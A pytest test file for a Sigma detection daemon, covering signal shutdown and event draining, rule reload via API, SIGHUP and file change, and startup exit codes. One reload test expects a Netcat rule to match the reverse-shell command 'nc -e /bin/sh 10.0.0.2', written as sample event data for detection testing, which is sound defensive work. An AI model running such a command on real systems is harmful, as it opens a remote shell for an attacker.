"""Shutdown on signals, hot reload (API, SIGHUP, file change) and startup failures with exit codes."""

from __future__ import annotations

import signal
import socket
import sqlite3
import threading
from typing import Any

import pytest

# Startup failures happen before any evaluation backend exists (the options, the rules, then the
# sinks, NATS and the API all fail before a matcher pool would start): one run, in process.
STARTUP_FAILURE = pytest.mark.single_backend

HOSTNAME_RULE = """\
title: Hostname
id: 55555555-5555-4555-8555-555555555555
level: low
logsource:
    product: test
detection:
    selection:
        CommandLine|contains: hostname
    condition: selection
"""


def titles(results: list[dict]) -> list[str]:
    return [r["rule_title"] for r in results]


# ---- shutdown -------------------------------------------------------------------------------


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_signal_with_idle_open_stdin_exits_0(daemon, rules_dir, sig):
    """The signal ends the daemon although stdin stays open and idle (it does not wait for EOF)."""
    d = daemon("-r", rules_dir)
    d.signal(sig)
    assert d.wait_exit() == 0, d.stderr()
    assert d.find_log("daemon stopped") is not None


def test_sigterm_drains_accepted_events_and_saves_state(daemon, rules_dir, ev, tmp_path, jsonl):
    """Events accepted by POST /api/v1/events before SIGTERM are all evaluated and delivered."""
    out, db = tmp_path / "out.ndjson", tmp_path / "rsigma.db"
    d = daemon(
        "-r",
        rules_dir,
        "--input",
        "http",
        "--output",
        f"file://{out}",
        "--state-db",
        db,
        "--state-save-interval",
        "3600",
    )
    d.post_events(ev.failed("u", 0), ev.failed("u", 1))
    d.wait_processed(2)
    n = 5000
    assert d.post_events(*(ev.whoami(i) for i in range(n))).json() == {"accepted": n}
    d.signal(signal.SIGTERM)
    assert d.wait_exit() == 0, d.stderr()
    results = jsonl(out)
    assert len(results) == n, f"{n - len(results)} accepted events were not drained"
    assert [r["matched_fields"][0]["value"] for r in results[:3]] == [f"cmd /c whoami #{i}" for i in range(3)]
    assert d.find_log("daemon stopped")["events_processed"] == n + 2
    assert not [r for r in d.logs() if r.get("unacknowledged_events")], "nothing may be left unacknowledged"
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM rsigma_correlation_state").fetchone()[0] == 1
    again = daemon("-r", rules_dir, "--state-db", db, stdin=ev.ndjson(ev.failed("u", 2)))
    assert again.wait_exit() == 0, again.stderr()
    assert titles(again.results()) == ["Brute force"]


def test_sigterm_during_back_pressured_ingest(daemon, rules_dir, ev, tmp_path, jsonl, wait_until):
    """SIGTERM while POST /api/v1/events waits on a full input queue (--buffer-size 1).

    The daemon must still exit 0 (the queue full does not hold the shutdown forever), deliver every
    event it reported as accepted, and not claim a drain timeout when nothing was left to drain. How
    long the exit takes is not asserted (a loaded machine); a hang fails the wait.
    """
    out = tmp_path / "out.ndjson"
    drain_timeout = 3.0
    d = daemon(
        "-r",
        rules_dir,
        "--input",
        "http",
        "--output",
        f"file://{out}",
        "--buffer-size",
        "1",
        "--drain-timeout",
        str(drain_timeout),
    )
    n = 20_000
    body = ev.ndjson(*(ev.whoami(i) for i in range(n)))
    reply: dict[str, Any] = {}

    def post() -> None:
        try:
            reply["response"] = d.post("/api/v1/events", body, timeout=20)
        except Exception as e:  # connection closed by the exiting daemon
            reply["error"] = e

    sender = threading.Thread(target=post, daemon=True)
    sender.start()
    wait_until(lambda: (d.metric("rsigma_events_processed_total") or 0) >= 50, "ingest under way")
    assert sender.is_alive(), "precondition: the POST is still waiting on the full queue"
    d.signal(signal.SIGTERM)
    code = d.wait_exit(60)  # a hang guard, far above --drain-timeout
    assert code == 0, d.stderr()
    sender.join(30)
    response = reply.get("response")
    if response is not None and response.status == 200:
        accepted = response.json()["accepted"]
        assert len(jsonl(out)) == accepted, "every event reported as accepted is delivered"
    timeouts = [r for r in d.logs() if r.get("message") == "drain timeout exceeded"]
    false_timeouts = [r for r in timeouts if not r.get("unacknowledged_events")]
    assert not false_timeouts, f"drain reported as timed out with nothing left to drain: {false_timeouts}"


# ---- reload ---------------------------------------------------------------------------------


def http_daemon(daemon, rules, tmp_path, *flags: str):
    out = tmp_path / "out.ndjson"
    d = daemon("-r", rules, "--input", "http", "--output", f"file://{out}", *flags)
    d.out = out
    return d


def processed(d, count: int) -> None:
    d.wait_processed(count)


def test_reload_via_api_adds_rule_and_keeps_state(daemon, rules_dir, netcat_rule, ev, tmp_path, jsonl):
    d = http_daemon(daemon, rules_dir, tmp_path)
    d.post_events(ev.failed("u", 0), ev.failed("u", 1), ev.netcat(1))
    processed(d, 3)
    assert jsonl(d.out) == []

    (rules_dir / "netcat.yml").write_text(netcat_rule)
    r = d.post("/api/v1/reload")
    assert r.status == 200, r.body
    assert r.json()["status"] == "reloaded"
    assert d.metric("rsigma_reloads_total") == 1
    assert d.metric("rsigma_reloads_failed_total") == 0
    assert d.metric("rsigma_detection_rules_loaded") == 3
    assert d.get("/api/v1/rules").json()["detection_rules"] == 3

    d.post_events(ev.netcat(2), ev.failed("u", 2))
    processed(d, 5)
    results = jsonl(d.out)
    assert titles(results) == ["Netcat", "Brute force"], "new rule fires; correlation state carried over"
    assert results[0]["matched_fields"][0]["value"] == "nc -e /bin/sh 10.0.0.2"


def test_failed_reload_keeps_old_rules(daemon, rules_file, ev, tmp_path, jsonl):
    d = http_daemon(daemon, rules_file, tmp_path)
    d.post_events(ev.failed("u", 0), ev.failed("u", 1))
    processed(d, 2)
    rules_file.write_text("title: [broken\nlogsource: {product: test\n")
    r = d.post("/api/v1/reload")
    assert r.status == 500
    assert r.json()["status"] == "reload_failed"
    assert d.metric("rsigma_reloads_failed_total") == 1
    assert d.metric("rsigma_reloads_total") == 1
    assert d.metric("rsigma_detection_rules_loaded") == 2
    assert d.get("/readyz").status == 200
    assert d.get("/api/v1/rules").json()["detection_rules"] == 2
    assert any(r.get("level") == "error" and "reload" in r["message"] for r in d.logs())

    d.post_events(ev.whoami(1), ev.failed("u", 2))
    processed(d, 4)
    assert titles(jsonl(d.out)) == ["Whoami", "Brute force"], "old rules and their state still work"


def test_reload_that_would_drop_a_broken_rule_file_fails(daemon, rules_dir, ev, tmp_path, jsonl):
    # An editor saves a typo into one file of the rules directory: skipped at startup, but a reload
    # that leaves out a rule that runs now must fail and keep it.
    d = http_daemon(daemon, rules_dir, tmp_path)
    (rules_dir / "whoami.yml").write_text("title: [broken\nlogsource: {product: test\n")
    r = d.post("/api/v1/reload")
    assert r.status == 500, r.body
    assert r.json()["status"] == "reload_failed"
    assert d.metric("rsigma_reloads_failed_total") == 1
    assert d.metric("rsigma_detection_rules_loaded") == 2
    [failed] = d.find_logs("reload failed")
    assert failed["level"] == "error" and "whoami.yml" in failed["error"], failed

    d.post_events(ev.whoami(1))
    processed(d, 1)
    assert titles(jsonl(d.out)) == ["Whoami"], "the running rule still detects"


def test_sighup_reload(daemon, rules_dir, netcat_rule, ev, tmp_path, jsonl, wait_until):
    d = http_daemon(daemon, rules_dir, tmp_path)
    (rules_dir / "netcat.yml").write_text(netcat_rule)
    d.signal(signal.SIGHUP)
    d.wait_metric("rsigma_reloads_total", 1)
    wait_until(lambda: d.metric("rsigma_detection_rules_loaded") == 3, "3 rules loaded")
    assert d.alive()
    d.post_events(ev.netcat(1))
    processed(d, 1)
    assert titles(jsonl(d.out)) == ["Netcat"]


def has_rule(d, title: str) -> bool:
    return any(r["title"] == title for r in d.get("/api/v1/rules").json().get("rules", []))


def test_file_change_reload(daemon, rules_dir, netcat_rule, ev, tmp_path, jsonl, wait_until):
    d = http_daemon(daemon, rules_dir, tmp_path, "--reload-poll", "0.2")
    (rules_dir / "netcat.yml").write_text(netcat_rule)
    wait_until(lambda: d.metric("rsigma_detection_rules_loaded") == 3, "the new rule file picked up")
    assert d.metric("rsigma_reloads_total") >= 1
    d.post_events(ev.netcat(1))
    processed(d, 1)
    assert titles(jsonl(d.out)) == ["Netcat"]

    # An edit of an existing file is picked up too.
    (rules_dir / "netcat.yml").write_text(HOSTNAME_RULE)
    wait_until(lambda: has_rule(d, "Hostname"), "the edited rule picked up")
    d.post_events({"CommandLine": "hostname"}, ev.netcat(2))
    processed(d, 3)
    assert titles(jsonl(d.out)) == ["Netcat", "Hostname"]


# ---- startup failures -----------------------------------------------------------------------


@STARTUP_FAILURE
@pytest.mark.parametrize("addr", ["localhost:9090", "127.0.0.1:notaport", "127.0.0.1:70000"])
def test_bad_api_addr_exits_3(run_daemon, rules_dir, addr):
    done = run_daemon("-r", rules_dir, "--api-addr", addr)
    assert done.returncode == 3, done.stderr
    assert "--api-addr" in done.stderr
    assert "daemon started" not in done.stderr


@STARTUP_FAILURE
def test_api_port_in_use_exits_3(run_daemon, rules_dir):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        done = run_daemon("-r", rules_dir, "--api-addr", f"127.0.0.1:{port}")
    assert done.returncode == 3, done.stderr
    assert str(port) in done.stderr


@STARTUP_FAILURE
@pytest.mark.parametrize(
    ("flag", "url"),
    [
        ("--output", "file:///nonexistent-dir/x.ndjson"),
        ("--output", "bogus://x"),
        ("--output", "file://"),
        ("--dlq", "file:///nonexistent-dir/dlq.ndjson"),
        ("--output", "file:///proc/x.ndjson"),  # the directory exists; the file cannot be created
    ],
)
def test_unusable_output_exits_3(run_daemon, rules_dir, flag, url):
    done = run_daemon("-r", rules_dir, flag, url)
    assert done.returncode == 3, done.stderr
    assert done.stderr.strip(), "a clear message on stderr"
    assert "daemon started" not in done.stderr


@STARTUP_FAILURE
def test_single_broken_rule_file_exits_2(run_daemon, tmp_path):
    broken = tmp_path / "broken.yml"
    broken.write_text(
        "title: Broken\nlogsource: {product: test}\ndetection:\n  sel:\n    a|bogusmod: x\n  condition: sel\n"
    )
    done = run_daemon("-r", broken)
    assert done.returncode == 2, done.stderr
    assert "broken.yml" in done.stderr
    assert "daemon started" not in done.stderr


@STARTUP_FAILURE
def test_strict_rules_refuses_a_rule_tree_with_a_broken_file(run_daemon, rules_dir):
    (rules_dir / "typo.yml").write_text("title: [broken\n")
    done = run_daemon("-r", rules_dir, "--strict-rules")
    assert done.returncode == 2, done.stderr
    assert "typo.yml" in done.stderr and "invalid YAML" in done.stderr
    assert "daemon started" not in done.stderr
    lenient = run_daemon("-r", rules_dir)  # the default: skipped with a warning, the rest runs
    assert lenient.returncode == 0, lenient.stderr
    assert "typo.yml" in lenient.stderr and "daemon started" in lenient.stderr


@STARTUP_FAILURE
def test_missing_rules_path_exits_2(run_daemon, tmp_path):
    done = run_daemon("-r", tmp_path / "nope.yml")
    assert done.returncode == 2, done.stderr
    assert "nope.yml" in done.stderr


def test_broken_file_in_a_directory_is_skipped(daemon, rules_dir, ev):
    (rules_dir / "zz-broken.yml").write_text("title: [broken\n")
    d = daemon("-r", rules_dir, stdin=ev.ndjson(ev.whoami(1)))
    assert d.wait_exit() == 0, d.stderr()
    assert titles(d.results()) == ["Whoami"]
